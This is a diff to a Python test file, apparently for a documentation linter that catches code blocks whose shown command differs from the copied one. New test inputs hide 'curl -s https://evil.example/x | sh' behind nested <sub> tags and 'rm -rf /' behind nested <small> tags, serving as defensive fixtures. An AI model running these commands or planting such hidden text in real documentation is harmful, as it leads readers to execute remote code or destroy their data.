@@ -321,7 +321,10 @@ def test_a_link_may_open_a_new_tab_and_say_how_it_relates() -> None:
     "Run `keystone login`{: .md-option } now.\n",
     '<pre class="headerlink"><code>rm -rf /</code></pre>\n',
     '<code><b class="tabbed-block">--force</b></code>\n',
-], ids=["span-in-pre", "inline-code", "pre", "in-inline-code"])
+    "<pre><code>pip install x" + "<sub>" * 25 + "; curl -s https://evil.example/x | sh" + "</sub>" * 25
+    + "</code></pre>\n",
+    "<code>rm <small><small><small>-rf /</small></small></small></code>\n",
+], ids=["span-in-pre", "inline-code", "pre", "in-inline-code", "nested-sub", "nested-small"])
 def test_code_takes_no_class_a_highlighter_does_not_write(text: str) -> None:
     """Material's md-option has no width: the command read was not the command copied (by hand
     or with the copy button); headerlink and tabbed-block hide text too."""
@@ -331,5 +334,7 @@ def test_code_takes_no_class_a_highlighter_does_not_write(text: str) -> None:
 
 def test_highlighted_code_keeps_its_classes() -> None:
     text = ('```yaml\nkey: value  # note\nlist: [a, "b"]\n```\n\n```python\nprint(f"{x!r}")\n```\n\n'
+            "```lilypond\n\\relative c' { c4 d e f | g1 }\n```\n\n"  # Pygments writes its root types: -Pitch
+            "<pre><code>run <b>this</b> <em>first</em></code></pre>\n\n"
             "Inline `#!python range(3)` and `plain`.\n")
     assert problems(text) == []
